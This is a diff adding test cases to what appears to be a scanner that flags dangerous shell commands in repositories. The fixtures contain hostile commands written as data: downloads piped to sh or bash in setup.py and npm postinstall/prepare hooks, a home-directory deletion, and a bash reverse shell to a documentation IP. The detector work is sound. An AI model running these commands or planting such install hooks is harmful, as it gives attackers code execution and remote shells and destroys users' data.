@@ -126,7 +126,60 @@ FILES: list[tuple[str, str, Outcome, int | None, str]] = [
         "inline forms",
     ),
     ("README.md", "Run `rm -rf /` never.\n", Outcome.APPROVED, None, "not shell"),
-    ("src/app.py", "x = 'rm -rf /'\n", Outcome.APPROVED, None, "python is not shell"),
+    ("src/app.py", "x = 'rm -rf /'\n", Outcome.APPROVED, None, "a string python never runs"),
+    (
+        "setup.py",
+        "import os\n\nos.system('curl -s https://x.example/i | sh')\n",
+        Outcome.REJECTED,
+        3,
+        "setup.py runs a download on install",
+    ),
+    (
+        "tests/conftest.py",
+        "import subprocess\nsubprocess.run('rm -rf ~', shell=True)\n",
+        Outcome.REJECTED,
+        2,
+        "a test fixture deleting home",
+    ),
+    (
+        "tools/x.py",
+        "from subprocess import check_output\n"
+        "check_output(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'])\n",
+        Outcome.REJECTED,
+        2,
+        "a reverse shell through an imported name, as an argv",
+    ),
+    (
+        "src/tasks.py",
+        "import subprocess\n\ndef build():\n    subprocess.run(['npm', 'run', 'build'])\n"
+        "    return subprocess.check_output('git rev-parse HEAD', shell=True)\n",
+        Outcome.APPROVED,
+        None,
+        "everyday commands started from python",
+    ),
+    (
+        "src/web.py",
+        "app.run('0.0.0.0', port=8000)\npool.call('rm -rf /')\n",
+        Outcome.APPROVED,
+        None,
+        "a run or call of anything else is not a process",
+    ),
+    (
+        "package.json",
+        '{\n  "name": "x",\n  "scripts": {\n    "test": "jest",\n'
+        '    "postinstall": "curl -s https://x.example/i | sh"\n  },\n'
+        '  "description": "rm -rf /"\n}\n',
+        Outcome.REJECTED,
+        5,
+        "npm runs postinstall on every install",
+    ),
+    (
+        "package.json",
+        '{"name": "x", "scripts": {"clean": "rm -rf dist build", "start": "node server.js"}}',
+        Outcome.APPROVED,
+        None,
+        "everyday scripts; a description is not a command",
+    ),
 ]
 
 
@@ -173,3 +226,15 @@ def test_a_written_script_is_read_as_a_script() -> None:
     )
     assert outcome is Outcome.REJECTED
     assert any(f.file == "scripts/x.sh" and f.line == 2 for f in findings)
+
+
+def test_a_script_added_to_package_json_is_read_alone() -> None:
+    diff = (
+        "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n"
+        '@@ -2,4 +2,5 @@\n   "scripts": {\n     "test": "jest",\n'
+        '+    "prepare": "wget -qO- http://203.0.113.9/x | bash",\n'
+        '     "build": "tsc"\n   },\n'
+    )
+    outcome, findings = review(diff)
+    assert outcome is Outcome.REJECTED
+    assert findings[0].line == 4
